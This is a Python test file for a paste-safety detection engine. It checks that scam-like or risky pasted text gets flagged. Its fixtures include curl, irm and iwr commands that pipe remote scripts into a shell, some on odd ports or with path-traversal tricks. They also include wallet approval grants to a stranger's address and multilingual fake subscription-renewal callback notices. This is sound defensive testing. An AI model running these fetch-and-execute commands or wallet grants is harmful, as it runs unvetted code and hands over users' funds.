"""Hostile input against the readings added for BLIND-10: the Run box's applets with a tab
written apart and snap-ins with their program's switches (runbox.py), installers with a port of
their own (trust.installer_for), pages whose address runs words together in capitals, driver
and codec pages and a registry's package page vouching for a forge repository (provenance.py),
a sign-in address measured as a whole padded word (signals._whole_word), wallet grants in the
console and callback notices in more languages (31-console-spying, 41-scam-calls).

Each input is a MiB of what those readings look for, read with the counting clocks of
test_hostile.py: bounded by the caps when the budget never runs out, and cut short at the
first look and halfway, never clean. Hypothesis draws malformed installer addresses, applet
tabs and page addresses: a verdict, never an exception; an installer is named only on HTTPS's
own port, as a browser reads the address.
"""

from __future__ import annotations

import functools
import urllib.parse
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, Level, PasteTarget, scamsentence
from app.detection.engine import default_trust_path
from app.detection.indicators import parse_url
from app.detection.provenance import (
    package_repository_rest,
    page_about_software,
    registry_package_repository,
)
from app.detection.runbox import opens_windows_page, uses_own_tool
from app.detection.signals import _whole_word
from app.detection.trust import TrustList
from tests.app.detection.test_hostile import (
    Looks,
    MiB,
    fill,
    looks,  # noqa: F401  (the fixture)
)
from tests.app.detection.test_hostile_new_traits import _sound, bounded_and_fail_closed

CODE = "0.AXoAbCdEf0123456789-ghIJkl_mnOPqrSTuv"
SPENDER = "0x5555000000000000000000000000000000000042"


def _applets_line() -> str:
    """One Run-box line of a MiB: applets with their tab written apart, snap-ins with their
    program's switches, no line break anywhere."""
    return fill(
        "mmsys.cpl ,1 sysdm.cpl ,,3 main.cpl @1 control mmsys.cpl ,,1 eventvwr.msc /c:Application "
        "mmc eventvwr.msc /f:x.evtx rundll32 shell32.dll,Control_RunDLL mmsys.cpl ,1 "
        "mmsys.cpl ,99999999 desk.cpl @ ,@, "
    )


def _installer_ports() -> str:
    return fill(
        "curl -sfL https://get.k3s.io:8443/ | sh -; irm https://get.scoop.sh:0443 | iex; "
        "curl https://user@get.k3s.io:99999/ | sh; curl https://get.k3s.io:443:8443/ | sh; "
        "curl https://get.k3s.io:" + "9" * 40 + "/ | sh; curl https://[fe80::1%25eth0]:443/ | sh; "
        "curl https://get.k3s.io\u200b:443/ | sh; curl https://get.k3s.io:\u0664\u0664\u0663/ | sh; "
    )


def _padded_sign_in() -> str:
    """One sign-in address as long as a MiB, then a Chinese sentence with no blank after it."""
    url = f"http://localhost:8400/?code={CODE}&state="
    return url + "A" * (MiB - len(url) - 40) + "请将此地址粘贴到下面的框中。"


def _many_sign_ins() -> str:
    """A MiB of distinct sign-in addresses: each is looked for in the text (_whole_word)."""
    return " ".join(
        f"http://localhost:{8000 + i % 1000}/?code={CODE}{i}&state=s{i}" for i in range(20_000)
    )[:MiB]


def _wallet_grants() -> str:
    return fill(
        f"contract.setApprovalForAll('{SPENDER}', true); "
        f"await usdt.approve('{SPENDER}', ethers.MaxUint256); "
        "ethereum.request({method: 'eth_signTypedData_v4', params: [a, JSON.stringify({"
        f"message: {{spender: '{SPENDER}'}}}})]}}); "
        f"eth_sendTransaction " + "x" * 290 + f" to: '{SPENDER}' "
    )


def _callback_notices() -> str:
    return fill(
        "Your subscription has been renewed today: $399.99 charged. To cancel, call 555-0100. "
        "Ihr Abonnement wurde verlängert. Zum Stornieren rufen Sie 555-0101 an. "
        "Votre abonnement a été renouvelé. Pour annuler, appelez le 555-0102. "
        "Su suscripción fue renovada. Para cancelar llame al 555-0103. "
        "Подписка продлена. Для отмены позвоните 555-0104. "
        "ご注文の更新が完了しました。キャンセルはお電話 555-0105 へ。"
        "您的订单已续订。取消请致电 555-0106。"
        "تم تجديد اشتراكك. للإلغاء اتصل 555-0107. "
    )


def _package_pins() -> str:
    return fill(
        "pip install git+https://github.com/ionelmc/python-lazy-object-proxy.git@fix-typo "
        "&& curl -fsSL https://raw.githubusercontent.com/ionelmc/python-lazy-object-proxy/"
        "fix/fix-dns.sh | sh && npm i github:acme-test/widget#fix-driver "
    )


HOSTILE: dict[str, Callable[[], str]] = {
    "a MiB Run-box line of applets and snap-ins": _applets_line,
    "installers with ports of their own": _installer_ports,
    "a sign-in address padded to a MiB": _padded_sign_in,
    "a MiB of distinct sign-in addresses": _many_sign_ins,
    "wallet grants": _wallet_grants,
    "callback notices in eight languages": _callback_notices,
    "package pins and fix scripts": _package_pins,
}


@functools.cache
def hostile(name: str) -> str:
    return HOSTILE[name]()


@pytest.mark.parametrize("name", list(HOSTILE))
def test_session10_readings_on_hostile_input_are_bounded_and_fail_closed_when_cut_short(
    engine: Engine,
    looks: Looks,  # noqa: F811
    name: str,
) -> None:
    bounded_and_fail_closed(engine, looks, name, hostile(name))


# pages these readings take the text's source from: capitals run together, drivers, registries
PAGES = [
    "https://cubecoders.test/" + "AMPInstall" * 20_000,
    "https://cubecoders.test/" + "A" * 200_000 + "Install",
    "https://cubecoders.test/\ud800How\x00To\u202eInstall\u200bDocker",
    "https://realtek-wifi-drivers.test/" + "drivers/" * 20_000,
    "https://video-codec-linux.test/codecs?x=" + "%00" * 50_000,
    "https://pypi.org/project/" + "@" * 100_000,
    "https://www.npmjs.com/package/@/",
    "https://pypi.org/project/lazy-object-proxy/" + "a/" * 50_000,
]


@pytest.mark.parametrize("page", PAGES, ids=range(len(PAGES)))
def test_hostile_page_addresses_get_a_sound_verdict(engine: Engine, page: str) -> None:
    text = hostile("package pins and fix scripts")[:4096]
    for target in (PasteTarget.TERMINAL, PasteTarget.RUN_DIALOG, PasteTarget.BROWSER_CONSOLE):
        _sound(engine.analyze(text, Context(page, target)))
    assert page_about_software(page) in (True, False, None)
    for repo in ("https://github.com/a/python-b", "https://github.com/a/lazy-object-proxy"):
        url = parse_url(repo)
        assert url is not None
        assert (registry_package_repository(page, url) is None) == (
            package_repository_rest(page, url) is None
        )


# --- an installer only on HTTPS's own port, as a browser reads the address -------------------


@functools.cache
def _trust() -> TrustList:
    return TrustList.load(default_trust_path())


_ports = st.one_of(
    st.sampled_from(["", ":", ":443", ":0443", ":0000443", ":8443", ":0", ":99999", ":65979",
                     ":443:8443", ":+443", ":-443", ": 443", ":４４３", ":\u0664\u0664\u0663",
                     ":443\u200b", ":" + "9" * 40, ":44\x003"]),
    st.text(alphabet="0123456789:+- ", max_size=8).map(":".__add__),
)  # fmt: skip
_userinfo = st.sampled_from(["", "user@", "get.k3s.io:443@", "@", "%40@"])
_hosts = st.sampled_from(["get.k3s.io", "GET.K3S.IO", "get.k3s.io.", "get.scoop.sh", "pyenv.run"])
_tails = st.sampled_from(["", "/", "/install.sh", "?x=1", "#frag", "\\x", "/a:8443"])


@given(userinfo=_userinfo, host=_hosts, port=_ports, tail=_tails)
@example(userinfo="", host="get.k3s.io", port=":443", tail="/")
@settings(max_examples=300, deadline=None)  # a loaded machine: no per-example deadline
def test_an_installer_is_named_only_on_https_own_port(
    userinfo: str, host: str, port: str, tail: str
) -> None:
    raw = f"https://{userinfo}{host}{port}{tail}"
    url = parse_url(raw)
    if url is None or not _trust().installer_for(url):
        return
    # what a browser or curl reads: the same host, on 443
    parts = urllib.parse.urlsplit(raw.replace("\\", "/"))
    assert not parts.username and not parts.password, raw  # `https://@host`: no user part
    assert parts.hostname is not None and parts.hostname.rstrip(".") == host.lower().rstrip(".")
    written = parts.netloc.rpartition(":")[2] if ":" in parts.netloc else ""
    assert written.lstrip("0") in ("", "443"), raw


def test_the_installer_on_its_own_port_is_still_named() -> None:
    # the property above can fail: its own port (written or not) keeps the name
    for raw in ("https://get.k3s.io/", "https://get.k3s.io:443/", "https://get.k3s.io:0443/"):
        assert _trust().installer_for(parse_url(raw)) == "K3s", raw  # type: ignore[arg-type]


# --- applet tabs and snap-in switches in any shape ---------------------------------------------

_applet_words = st.sampled_from(
    ["mmsys.cpl", "MMSYS.CPL", "sysdm.cpl", "main.cpl", "evil.cpl", "\\\\fs.test\\s\\x.cpl",
     "control", "control.exe", ",1", ",,3", "@1", ",@1", ",", "@", ",,", ",999", "@-1", ",1,2",
     ",1 ", "\x00", "\u202e,1", "/name", "Microsoft.Sound", "/page", "mmsys.cpl,1"]
)  # fmt: skip


@given(words=st.lists(_applet_words, min_size=1, max_size=5))
@example(words=["mmsys.cpl", ",1"])
@example(words=["evil.cpl", ",1"])
@settings(max_examples=300, deadline=None)  # a loaded machine: no per-example deadline
def test_an_applet_is_a_windows_page_only_by_its_own_name(words: list[str]) -> None:
    opened = opens_windows_page(words)
    if opened and words[0].lower().removesuffix(".exe") != "control":
        # no applet but Windows' own opens, and only its name and a tab follow it
        assert words[0].lower() in ("mmsys.cpl", "sysdm.cpl", "main.cpl"), words
        assert len(words) <= 2, words
    if any(w in ("evil.cpl", "\\\\fs.test\\s\\x.cpl") for w in words):
        assert not opened, words


_snapin_lines = st.builds(
    "{}{} {}".format,
    st.sampled_from(["", "mmc "]),
    st.sampled_from(["eventvwr.msc", "devmgmt.msc", "evil.msc", "\\\\fs.test\\x.msc", "eventvwr"]),
    st.text(alphabet="/:cfAa\\. \x00\u202e", max_size=30),
)


@given(line=_snapin_lines)
@settings(max_examples=200, deadline=None)  # a loaded machine: no per-example deadline
def test_a_snap_in_line_of_any_switches_gets_an_answer(line: str) -> None:
    if uses_own_tool(line):
        assert "evil" not in line and "fs.test" not in line, line


# --- a sign-in address measured whole, and registry pages --------------------------------------


# the engine's text never holds a lone surrogate (it reads one as U+FFFD)
_valid = st.characters(blacklist_categories=("Cs",))


@given(
    before=st.text(_valid, max_size=20),
    after=st.text(_valid, max_size=40),
    raw=st.sampled_from([f"http://localhost:8400/?code={CODE}", "", "\ufffd", "[::1]:80/?code=x"]),
)
@settings(max_examples=100, deadline=None)  # a loaded machine: no per-example deadline
def test_the_whole_word_is_the_address_as_written(before: str, after: str, raw: str) -> None:
    text = before + raw + after
    word = _whole_word(text, raw)
    assert word.startswith(raw) and word in text


@given(
    page=st.builds("https://{}/{}/{}".format,
                   st.sampled_from(["pypi.org", "www.npmjs.com", "crates.io", "rubygems.org"]),
                   st.sampled_from(["project", "package", "crates", "gems", "PROJECT"]),
                   st.text(alphabet="abc-_.@/py", max_size=20)),
    repo=st.text(alphabet="abc-_.@/py", max_size=20),
)  # fmt: skip
@settings(max_examples=200, deadline=None)  # a loaded machine: no per-example deadline
def test_a_package_page_vouches_only_for_a_plain_forge_repository(page: str, repo: str) -> None:
    url = parse_url(f"https://github.com/acme-test/{repo}")
    if url is None:
        return
    why = registry_package_repository(page, url)
    rest = package_repository_rest(page, url)
    assert (why is None) == (rest is None)
    if why is not None:
        assert rest is not None and rest.startswith("/")


# --- what the engine keeps across texts gives the verdict a fresh reading gives ---------------

_TEXTS = [
    "pip install git+https://github.com/ionelmc/python-lazy-object-proxy.git@fix-typo",
    "curl -fsSL https://raw.githubusercontent.com/ionelmc/python-lazy-object-proxy/main/fix.sh"
    " | sh",
    "curl -fsSL https://raw.githubusercontent.com/acme-test/widget/main/install.sh | bash",
    "curl -sfL https://get.k3s.io:8443/ | sh -",
    "curl -sfL https://get.k3s.io/ | sh -",
    "iwr https://realtek-wifi-drivers.test/driver.ps1 | iex",
    "mmsys.cpl ,1",
    "eventvwr.msc /c:Application",
    f"contract.setApprovalForAll('{SPENDER}', true)",
    "Your subscription was renewed today: $399.99 charged. To cancel, call +1 555 010 0199.",
    f"http://localhost:8400/?code={CODE}&state=" + "A" * 9000,
]
_PAGES = [
    None,
    "https://pypi.org/project/lazy-object-proxy/",
    "https://pypi.org/project/widget/",
    "https://www.npmjs.com/package/@acme-test/widget",
    "https://github.com/acme-test/widget",
    "https://cubecoders.test/AMPInstall",
    "https://cubecoders.test/HowToBakeBread",
    "https://realtek-wifi-drivers.test/download",
    "https://verify.human-check.test/step2",
]


def _reading(engine: Engine, text: str, context: Context) -> tuple[object, ...]:
    verdict = engine.analyze(text, context)
    return verdict.level, tuple(verdict.rule_ids), verdict.summary, verdict.complete


@given(
    steps=st.lists(
        st.tuples(
            st.sampled_from(_TEXTS),
            st.sampled_from(_PAGES),
            st.sampled_from([PasteTarget.TERMINAL, PasteTarget.RUN_DIALOG, PasteTarget.OTHER]),
        ),
        min_size=2,
        max_size=6,
    )
)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_what_the_engine_keeps_across_texts_gives_a_fresh_readings_verdict(
    engine: Engine, steps: list[tuple[str, str | None, PasteTarget]]
) -> None:
    for text, page, target in steps:
        context = Context(page, target)
        kept = _reading(engine, text, context)
        # forget every page, project and phone number the engine kept from the texts before
        engine._pages.clear()
        engine._projects.clear()
        scamsentence._phones.clear()
        fresh = _reading(engine, text, context)
        if not (kept[3] and fresh[3]):
            continue  # the real clock cut one short (a loaded machine): test_hostile's to judge
        assert kept == fresh, (text[:80], page, target)


# --- a wallet grant is not excused by a test chain's account written beside it ---------------

_HARDHAT = "0xf39fd6e51aad88f6f4ce6ab8827279cfffb92266"  # Hardhat's and Anvil's first account


@pytest.mark.parametrize(
    "beside",
    [f" // deployed with {_HARDHAT}", f"; await usdt.approve('{_HARDHAT}', 0)"],
    ids=["in a comment", "in a harmless grant"],
)
def test_a_wallet_grant_to_a_stranger_is_found_whatever_test_account_is_beside_it(
    engine: Engine, beside: str
) -> None:
    grant = f"contract.setApprovalForAll('{SPENDER}', true)"
    page = "https://claim-airdrop.test/"
    alone = engine.analyze(grant, Context(page, PasteTarget.BROWSER_CONSOLE))
    assert "PG-JS-WALLET-GRANT" in alone.rule_ids  # the barrier: found without the account
    verdict = engine.analyze(grant + beside, Context(page, PasteTarget.BROWSER_CONSOLE))
    assert "PG-JS-WALLET-GRANT" in verdict.rule_ids, verdict.rule_ids


def test_a_stranger_behind_many_test_accounts_is_still_found(engine: Engine) -> None:
    # the addresses are read in bounds (a hostile text may write thousands): past the bound
    # the check fails closed rather than excusing what it did not read
    grant = f"contract.setApprovalForAll('{SPENDER}', true)"
    context = Context("https://claim-airdrop.test/", PasteTarget.BROWSER_CONSOLE)
    quiet = engine.analyze(f"await usdt.approve('{_HARDHAT}', 1)", context)
    assert "PG-JS-WALLET-GRANT" not in quiet.rule_ids  # the barrier: a test account excuses
    for times in (3, 200):
        verdict = engine.analyze(f"// {_HARDHAT}\n" * times + grant, context)
        assert "PG-JS-WALLET-GRANT" in verdict.rule_ids, (times, verdict.rule_ids)
        assert verdict.level >= Level.SUSPICIOUS


# --- an installer's path prefix is not left by dot segments ------------------------------------


@pytest.mark.parametrize(
    "path",
    ["../../acme-test/widget/main/fix.sh", "./../../acme-test/w/main/x.sh",
     "%2e%2e/%2E./acme-test/widget/main/x.sh", "master/../../../acme-test/w/main/x.sh"],
)  # fmt: skip
def test_a_path_that_climbs_out_of_an_installers_prefix_is_no_installer(
    engine: Engine, path: str
) -> None:
    # curl and browsers remove dot segments before they ask: this fetches someone else's
    # script from a host anyone publishes on, under an address that starts like pyenv's
    prefix = "https://raw.githubusercontent.com/pyenv/pyenv-installer/"
    url = parse_url(prefix + path)
    assert url is not None and url.path.startswith("/pyenv/pyenv-installer/")
    assert _trust().installer_for(url) is None
    own = parse_url(prefix + "master/bin/pyenv-installer")
    assert own is not None and _trust().installer_for(own) == "pyenv"  # the barrier
    verdict = engine.analyze(
        f"curl -fsSL {prefix}{path} | bash", Context(None, PasteTarget.TERMINAL)
    )
    assert "PG-INFO-KNOWN-INSTALLER" not in verdict.rule_ids
    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids


@given(
    path=st.lists(
        st.sampled_from(["..", ".", "%2e%2e", "%2E", ".%2e", "master", "bin", "acme-test", "",
                         "pyenv-installer", "..x", "x..", "...", "%2e%2e%2f"]),
        max_size=6,
    ).map("/".join)
)  # fmt: skip
@settings(max_examples=300, deadline=None)  # a loaded machine: no per-example deadline
def test_an_installer_with_a_prefix_is_named_only_where_curl_fetches_under_it(path: str) -> None:
    raw = "https://raw.githubusercontent.com/pyenv/pyenv-installer/" + path
    url = parse_url(raw)
    if url is None or not _trust().installer_for(url):
        return
    # what curl asks for: the path with its dot segments removed (RFC 3986 5.2.4), %2e as a dot
    segments: list[str] = []
    for segment in url.path.split("/")[1:]:
        plain = segment.lower().replace("%2e", ".")
        if plain == "..":
            segments = segments[:-1]
        elif plain != ".":
            segments.append(segment)
    assert "/".join(segments).lower().startswith("pyenv/pyenv-installer/"), raw
